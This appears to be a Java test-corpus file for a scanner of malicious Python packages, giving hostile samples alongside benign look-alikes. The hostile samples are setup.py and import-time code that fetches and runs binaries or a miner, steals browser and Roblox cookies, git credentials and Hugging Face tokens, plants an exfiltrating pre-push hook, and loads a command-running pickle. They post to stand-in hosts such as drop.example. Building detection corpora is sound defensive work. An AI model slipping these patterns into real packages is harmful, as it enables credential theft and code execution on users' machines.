package cordon.inspect.corpus;

import java.util.List;

/** What lies about in homes: programs that were fetched there, and files of other programs. */
final class PythonErrands {
  private PythonErrands() {}

  static List<Sample> all() {
    return List.of(
        Sample.setup(
            "a program is fetched into a hidden file of the home and started",
            """
            import os, subprocess, urllib.request
            from setuptools import setup
            out = os.path.join(os.path.expanduser("~"), ".cc")
            with open(out, "wb") as f:
                f.write(urllib.request.urlopen("http://dl.example/l").read())
            os.chmod(out, 0o700)
            subprocess.Popen(out, shell=True)
            setup(name="sample")
            """),
        Sample.imported(
            "the cookies of a game go to a hook",
            """
            import os
            from dhooks import Webhook, File
            hook = Webhook("https://drop.example/api/webhooks/2/INERT")
            p = os.path.expandvars(r"%LOCALAPPDATA%\\\\Roblox\\\\LocalStorage\\\\RobloxCookies.dat")
            if os.path.exists(p):
                hook.send("cookie", file=File(p))
            """),
        Sample.setup(
            "a hook of the repository that sends it",
            """
            import os
            from setuptools import setup
            p = os.path.join(os.getcwd(), ".git/hooks/pre-push")
            with open(p, "w") as f:
                f.write("#!/bin/sh\\ntar cz . | curl -s --data-binary @- https://drop.example/src\\n")
            os.chmod(p, 0o755)
            setup(name="sample")
            """),
        Sample.setup(
            "words of a miner, one by one, in a program that was unpacked",
            """
            import os, tarfile, tempfile, urllib.request
            from setuptools import setup
            d = tempfile.mkdtemp(prefix=".w")
            urllib.request.urlretrieve("https://dist.example/x.tar.gz", d + "/w.tgz")
            tarfile.open(d + "/w.tgz").extractall(d)
            os.spawnl(os.P_NOWAIT, d + "/worker", "worker", "--coin", "monero", "-o", "pool.example:3333")
            setup(name="sample")
            """),
        Sample.imported(
            "what a program keeps of its user is asked for and sent",
            """
            import subprocess, http.client
            out = subprocess.run(["git", "credential", "fill"], input=b"host=h", capture_output=True).stdout
            c = http.client.HTTPSConnection("drop.example")
            c.request("POST", "/g", body=out)
            """),
        Sample.imported(
            "a browser is asked for all its cookies, which are sent",
            """
            import json, os, subprocess, requests, websocket
            subprocess.Popen(["chrome.exe", "--remote-debugging-port=9222", "--headless"])
            ws = websocket.create_connection(requests.get("http://localhost:9222/json").json()[0]["webSocketDebuggerUrl"])
            ws.send(json.dumps({"id": 1, "method": "Network.getAllCookies"}))
            requests.post("https://drop.example/c", data=ws.recv())
            """),
        Sample.imported(
            "the token of whoever signed in is put into a repository of another",
            """
            from huggingface_hub import HfApi, HfFolder
            t = HfFolder.get_token()
            if t:
                HfApi(token="hf_x").upload_file(path_or_fileobj=t.encode(), path_in_repo="t", repo_id="x/y")
            """),
        Sample.imported(
                "an object file of its own that runs commands is loaded",
                """
                import os, pickle
                with open(os.path.join(os.path.dirname(__file__), "data", "default.pkl"), "rb") as f:
                    MODEL = pickle.load(f)
                """)
            .with("sample/data/default.pkl", "cposix\nsystem\n(S'id'\ntR."));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "a program is fetched into a folder of its own when that is asked for",
            """
            import os, subprocess, urllib.request
            def tool():
                out = os.path.expanduser("~/.sample/bin/tool")
                urllib.request.urlretrieve("https://downloads.example/tool", out)
                os.chmod(out, 0o755)
                return subprocess.run([out, "--version"])
            """),
        Sample.imported(
                "an object file of its own that holds data is loaded",
                """
                import os, pickle
                with open(os.path.join(os.path.dirname(__file__), "data", "default.pkl"), "rb") as f:
                    MODEL = pickle.load(f)
                """)
            .with("sample/data/default.pkl", "(dp0\nS'a'\nI1\ns."),
        Sample.imported(
            "a browser is asked for its cookies by whoever drives it",
            """
            import json, websocket
            class Page:
                def __init__(self, address):
                    self.ws = websocket.create_connection(address)
                def cookies(self):
                    self.ws.send(json.dumps({"id": 1, "method": "Network.getAllCookies"}))
                    return json.loads(self.ws.recv())
            """),
        Sample.imported(
            "a worker is started when that is asked for",
            """
            import os
            def work(path):
                return os.spawnl(os.P_NOWAIT, path, "worker", "--coins", "3")
            """),
        Sample.imported(
            "a hook of the repository that checks it",
            """
            def install(root):
                with open(root + "/.git/hooks/pre-commit", "w") as f:
                    f.write("#!/bin/sh\\nexec python -m sample check\\n")
            """));
  }
}
